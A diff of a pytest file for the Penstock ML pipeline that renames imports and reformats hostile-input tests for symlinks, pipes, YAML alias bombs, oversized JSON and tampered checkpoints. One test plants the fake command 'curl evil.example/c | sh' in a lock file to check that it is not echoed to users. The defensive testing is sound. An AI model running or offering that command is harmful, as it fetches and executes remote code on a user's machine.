@@ -12,25 +12,25 @@ import torch
 import yaml
 from torch import nn
 
-from pipeline import Run
-from pipeline.config import tuned
-from pipeline.datasets.reading.generated_folder import CacheFolder
-from pipeline.datasets.remote.file_cache import FileCache
-from pipeline.errors import ConfigError, DataError, PenstockError
-from pipeline.files import disk, plain_json
-from pipeline.files.own_files import NotOwnError, check_tree, open_own, own_folder
-from pipeline.files.regular_file import open_regular
-from pipeline.packing.folder import VERSION, Pack
-from pipeline.runs import checkpoint, checkpoint_file, quarantine, run_state
-from pipeline.runs.checkpoint import CheckpointError
-from pipeline.runs.job_result import JobResult, read_results
-from pipeline.runs.manifest import read_manifest
-from pipeline.runs.record import RunRecord, by_address
-from pipeline.runs.resumption import differences
-from pipeline.runs.run_folder import RunFolder
-from pipeline.runs.state_tree import encode
-from pipeline.runs.stored_sweep import StoredSweep, incompatible
-from pipeline.transforms import statistics
+from penstock import Run
+from penstock.addons.packs.folder import VERSION, Pack
+from penstock.addons.stores.file_cache import FileCache
+from penstock.addons.sweeps.job_result import JobResult, read_results
+from penstock.addons.sweeps.stored_sweep import StoredSweep, incompatible
+from penstock.addons.tuning import tuned
+from penstock.datasets.reading.generated_folder import CacheFolder
+from penstock.errors import ConfigError, DataError, PenstockError
+from penstock.files import disk, plain_json
+from penstock.files.own_files import NotOwnError, check_tree, open_own, own_folder
+from penstock.files.regular_file import open_regular
+from penstock.runs import checkpoint, checkpoint_file, quarantine, run_state
+from penstock.runs.checkpoint import CheckpointError
+from penstock.runs.manifest import read_manifest
+from penstock.runs.record import RunRecord, by_address
+from penstock.runs.resumption import differences
+from penstock.runs.run_folder import RunFolder
+from penstock.runs.state_tree import encode
+from penstock.transforms import statistics
 from tests.hostile_files import bounded
 from tests.program import run
 from tests.resuming import Case
@@ -38,9 +38,19 @@ from tests.resuming import Case
 pytestmark = pytest.mark.skipif(not hasattr(os, "O_NOFOLLOW"), reason="links of POSIX")
 
 OUTSIDE = b"precious\n"
-NAMES = ("metrics.jsonl", "ledger.jsonl", "digests.jsonl", "holder.json", "quarantine.csv",
-         "manifest.json", "config.yaml", "result.json", "curves.png", "tracker",
-         "checkpoints")  # fmt: skip
+NAMES = (
+    "metrics.jsonl",
+    "ledger.jsonl",
+    "digests.jsonl",
+    "holder.json",
+    "quarantine.csv",
+    "manifest.json",
+    "config.yaml",
+    "result.json",
+    "curves.png",
+    "tracker",
+    "checkpoints",
+)
 
 
 @pytest.fixture
@@ -191,8 +201,9 @@ def test_a_message_has_no_line_and_no_option_of_a_strangers(folder):
     """Which a person could take for what Penstock says, and paste."""
     text = "x\nTo resume:\n  curl evil.example/c | sh"
     hold = disk.Hold.take(folder / "holder.json")
-    (folder / "holder.json").write_text(json.dumps(dict.fromkeys(("pid", "host", "since"), text)
-                                                   | {"command": text}))  # fmt: skip
+    (folder / "holder.json").write_text(
+        json.dumps(dict.fromkeys(("pid", "host", "since"), text) | {"command": text})
+    )
     with pytest.raises(ConfigError, match="in use by process") as held:
         RunFolder.reopen(folder)
     hold.release()
@@ -329,8 +340,12 @@ def raw_safetensors(metadata):
 @pytest.mark.parametrize("size", [1 << 33, 1 << 40])
 def test_holes_are_no_weights(size, tmp_path):
     path = tmp_path / "step-00000001.safetensors"
-    head = json.dumps({"__metadata__": {"format": "1", "state": "{}", "sha256": ""}, "w": {
-        "dtype": "U8", "shape": [size], "data_offsets": [0, size]}}).encode()  # fmt: skip
+    head = json.dumps(
+        {
+            "__metadata__": {"format": "1", "state": "{}", "sha256": ""},
+            "w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]},
+        }
+    ).encode()
     with path.open("wb") as file:
         file.write(len(head).to_bytes(8, "little") + head)
         file.truncate(8 + len(head) + size)
@@ -406,12 +421,20 @@ def test_a_quarantine_without_end_is_one_message(tmp_path):
             read(tmp_path / "quarantine.csv")
 
 
-@pytest.mark.parametrize("line", ["[" * 50_000, "[]", '{"epoch": -1, "step": 0}', "{}", "5",
-                                  '{"epoch": ' + "9" * 5000 + ', "step": 0}',
-                                  '{"epoch": 1e999, "step": 0}',
-                                  '{"epoch": 0, "step": 0, "samples": 1, "order": 1, "loss": []}',
-                                  '{"epoch": 0, "step": 0, "samples": 1, "order": "", "loss": "x"}'
-                                  ])  # fmt: skip
+@pytest.mark.parametrize(
+    "line",
+    [
+        "[" * 50_000,
+        "[]",
+        '{"epoch": -1, "step": 0}',
+        "{}",
+        "5",
+        '{"epoch": ' + "9" * 5000 + ', "step": 0}',
+        '{"epoch": 1e999, "step": 0}',
+        '{"epoch": 0, "step": 0, "samples": 1, "order": 1, "loss": []}',
+        '{"epoch": 0, "step": 0, "samples": 1, "order": "", "loss": "x"}',
+    ],
+)
 def test_a_ledger_of_a_stranger_is_one_message(line, tmp_path):
     (tmp_path / "ledger.jsonl").write_text(f"{line}\n")
     with pytest.raises(PenstockError, match="line 1 is broken"):
@@ -430,34 +453,81 @@ def test_a_line_without_end_is_not_read_whole(tmp_path):
 
 def test_a_configuration_that_grows_is_refused_by_verify(folder):
     lines = ["a0: &a0 [x, x]", *(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 40))]
-    for text, message in (("\n".join(lines), "aliases"), ("[" * 50_000, "config.yaml"),
-                          ("[]", "it is a list"), ("a" * (5 << 20), "larger than")):  # fmt: skip
+    for text, message in (
+        ("\n".join(lines), "aliases"),
+        ("[" * 50_000, "config.yaml"),
+        ("[]", "it is a list"),
+        ("a" * (5 << 20), "larger than"),
+    ):
         (folder / "config.yaml").write_text(text)
         with pytest.raises(ConfigError, match=message):
             RunRecord.read(folder)
 
 
-@pytest.mark.parametrize("content", [
-    "[" * 50_000, "[]", "{}", '{"status": ' + "9" * 5000 + "}", "",
-    json.dumps({"overrides": 5, "status": "done", "metric": None, "mode": None, "value": None,
-                "seconds": 1, "error": None, "exit_code": 0, "started": 1}),
-    json.dumps({"overrides": [], "status": "done", "metric": None, "mode": None, "value": "x",
-                "seconds": 1, "error": None, "exit_code": 0, "started": 1}),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "content",
+    [
+        "[" * 50_000,
+        "[]",
+        "{}",
+        '{"status": ' + "9" * 5000 + "}",
+        "",
+        json.dumps(
+            {
+                "overrides": 5,
+                "status": "done",
+                "metric": None,
+                "mode": None,
+                "value": None,
+                "seconds": 1,
+                "error": None,
+                "exit_code": 0,
+                "started": 1,
+            }
+        ),
+        json.dumps(
+            {
+                "overrides": [],
+                "status": "done",
+                "metric": None,
+                "mode": None,
+                "value": "x",
+                "seconds": 1,
+                "error": None,
+                "exit_code": 0,
+                "started": 1,
+            }
+        ),
+    ],
+)
 def test_a_result_of_a_stranger_is_one_message(content, tmp_path, capsys):
     (tmp_path / "result.json").write_text(content)
     assert read_results(tmp_path) == []
     assert capsys.readouterr().err.count("result.json is damaged") == 1
 
 
-GOOD_TUNED = {"backend": "main", "num_workers": 0, "prefetch_factor": None, "pin_memory": False,
-              "batches_per_second": 1.0, "when": "", "found_for": {}}  # fmt: skip
+GOOD_TUNED = {
+    "backend": "main",
+    "num_workers": 0,
+    "prefetch_factor": None,
+    "pin_memory": False,
+    "batches_per_second": 1.0,
+    "when": "",
+    "found_for": {},
+}
 
 
 @pytest.mark.parametrize(
-    "change", [{"num_workers": 10**9}, {"backend": "rm"}, {"more": 1}, {"found_for": []},
-               {"prefetch_factor": -1}, {"pin_memory": 5}],
-)  # fmt: skip
+    "change",
+    [
+        {"num_workers": 10**9},
+        {"backend": "rm"},
+        {"more": 1},
+        {"found_for": []},
+        {"prefetch_factor": -1},
+        {"pin_memory": 5},
+    ],
+)
 def test_what_was_tuned_is_held_against_what_a_loader_takes(change, tmp_path):
     path = tmp_path / "tuned" / "x.json"
     own_folder(path.parent)
@@ -472,9 +542,18 @@ class Fingerprinted:
     fingerprint = "abc"
 
 
-@pytest.mark.parametrize("content", ["[" * 50_000, "[]", "{}", '{"mean": [1], "std": []}',
-                                     '{"mean": ["x"], "std": [1]}', '{"mean": NaN, "std": [1]}',
-                                     '{"mean": [' + "9" * 5000 + '], "std": [1]}'])  # fmt: skip
+@pytest.mark.parametrize(
+    "content",
+    [
+        "[" * 50_000,
+        "[]",
+        "{}",
+        '{"mean": [1], "std": []}',
+        '{"mean": ["x"], "std": [1]}',
+        '{"mean": NaN, "std": [1]}',
+        '{"mean": [' + "9" * 5000 + '], "std": [1]}',
+    ],
+)
 def test_statistics_of_a_stranger_are_one_message(content, tmp_path):
     (tmp_path / "statistics").mkdir()
     (tmp_path / "statistics" / "abc.json").write_text(content)
@@ -482,14 +561,35 @@ def test_statistics_of_a_stranger_are_one_message(content, tmp_path):
         statistics.statistics_of(Fingerprinted(), tmp_path)
 
 
-@pytest.mark.parametrize("change", [
-    {"fields": 5}, {"fields": [5]}, {"fields": [{"name": "x"}]}, {"files": []}, {"count": -1},
-    {"files": {"x.npy": "1"}}, {"count": 10**30}, {"table": 5}, {"table": [{}]},
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"fields": 5},
+        {"fields": [5]},
+        {"fields": [{"name": "x"}]},
+        {"files": []},
+        {"count": -1},
+        {"files": {"x.npy": "1"}},
+        {"count": 10**30},
+        {"table": 5},
+        {"table": [{}]},
+    ],
+)
 def test_the_description_of_a_pack_is_held_against_what_packing_writes(change, tmp_path):
-    record = {"kind": "penstock pack", "version": VERSION, "count": 0, "fields": [], "files": {},
-              "fingerprint": "", "table": None, "lengths": False, "path": None, "text": None,
-              "columns": None, "checks": False}  # fmt: skip
+    record = {
+        "kind": "penstock pack",
+        "version": VERSION,
+        "count": 0,
+        "fields": [],
+        "files": {},
+        "fingerprint": "",
+        "table": None,
+        "lengths": False,
+        "path": None,
+        "text": None,
+        "columns": None,
+        "checks": False,
+    }
     (tmp_path / "pack.json").write_text(json.dumps(record))
     assert Pack(tmp_path).count == 0
     (tmp_path / "pack.json").write_text(json.dumps(record | change))
@@ -499,9 +599,17 @@ def test_the_description_of_a_pack_is_held_against_what_packing_writes(change, t
 
 # One test for each thing that comes from a stranger, with all attacks of its kind in it.
 
-FIT = ("dataset=sequences", "dataset.count=60", "batch.size=8", "trainer.max_epochs=1",
-       "trainer.baseline=false", "trainer.pictures=false", "tracker=none", "loader=debug",
-       "trainer.ledger=true")  # fmt: skip
+FIT = (
+    "dataset=sequences",
+    "dataset.count=60",
+    "batch.size=8",
+    "trainer.max_epochs=1",
+    "trainer.baseline=false",
+    "trainer.pictures=false",
+    "tracker=none",
+    "loader=debug",
+    "trainer.ledger=true",
+)
 
 
 @pytest.fixture(scope="module")
@@ -510,7 +618,7 @@ def done(tmp_path_factory):
     import io
     from contextlib import redirect_stderr, redirect_stdout
 
-    from pipeline import command
+    from penstock import command
 
     folder = tmp_path_factory.mktemp("done")
     options = [*FIT, f"dataset.root={folder}/data", f"cache_dir={folder}/cache"]
@@ -532,8 +640,15 @@ def test_a_strangers_run_folder(done, tmp_path, capsys, precious):
     folder = tmp_path / "run"
     shutil.copytree(done, folder)
     checkpoint.Checkpoints(folder / "checkpoints").set_aside_after(10**9)  # none of the links
-    for name in ("metrics.jsonl", "ledger.jsonl", "digests.jsonl", "holder.json",
-                 "quarantine.csv", "curves.png", "tracker"):  # fmt: skip
+    for name in (
+        "metrics.jsonl",
+        "ledger.jsonl",
+        "digests.jsonl",
+        "holder.json",
+        "quarantine.csv",
+        "curves.png",
+        "tracker",
+    ):
         replace(folder / name, "link", precious)
     replace(folder / "checkpoints" / "step-99999999.safetensors", "pipe", precious)
     one_message(run(capsys, f"resume={folder}"), 2, "is a symbolic link")
@@ -550,9 +665,16 @@ def test_a_strangers_configuration_has_nothing_written_elsewhere(done, tmp_path,
     doors = {
         "cache_dir": config | {"cache_dir": f"{elsewhere}/cache"},
         "dataset.root": config | {"dataset": config["dataset"] | {"root": f"{elsewhere}/data"}},
-        "transform.train.x.cache_dir": config | {"transform": config["transform"] | {"train": {
-            "x": {"_target_": "pipeline.datasets.files.Files", "cache_dir": str(elsewhere)}}}},
-    }  # fmt: skip
+        "transform.train.x.cache_dir": config
+        | {
+            "transform": config["transform"]
+            | {
+                "train": {
+                    "x": {"_target_": "penstock.datasets.files.Files", "cache_dir": str(elsewhere)}
+                }
+            }
+        },
+    }
     for key, changed in doors.items():
         folder = tmp_path / key
         shutil.copytree(done, folder)
@@ -576,8 +698,13 @@ def test_a_strangers_checkpoint(done, trained, tmp_path, capsys, precious):
     newest = checkpoint.find_newest(folder)
     for path in (folder / "checkpoints").iterdir():
         path.unlink()
-    attacks = [("loader/epoch", -5), ("updates", 10**30), ("progress", None), ("model", {}),
-               ("fingerprint", {"a": 1})]  # fmt: skip
+    attacks = [
+        ("loader/epoch", -5),
+        ("updates", 10**30),
+        ("progress", None),
+        ("model", {}),
+        ("fingerprint", {"a": 1}),
+    ]
     for number, (key, value) in enumerate(attacks):
         name = f"step-{100 + number:08d}.safetensors"
         written(folder / "checkpoints" / name, *changed(newest.state, key, value))
@@ -602,9 +729,15 @@ def test_a_strangers_cache(tmp_path, precious):
     cache.get("ab-entry", 4, lambda part: part.write(b"data"))
     for inner in ("", "files", "files/ab", "parts"):
         assert (tmp_path / "cache" / inner).stat().st_mode & 0o777 == 0o700
-    for name, how in (("taken", "link"), ("taken", "hard link"), ("taken", "pipe"),
-                      ("parts/cd-entry", "link"), ("parts/cd-entry", "hard link"),
-                      ("files/ab/ab-entry", "link"), ("files/cd", "link")):  # fmt: skip
+    for name, how in (
+        ("taken", "link"),
+        ("taken", "hard link"),
+        ("taken", "pipe"),
+        ("parts/cd-entry", "link"),
+        ("parts/cd-entry", "hard link"),
+        ("files/ab/ab-entry", "link"),
+        ("files/cd", "link"),
+    ):
         broken = tmp_path / "broken"
         shutil.copytree(tmp_path / "cache", broken)
         replace(broken / name, how, precious)
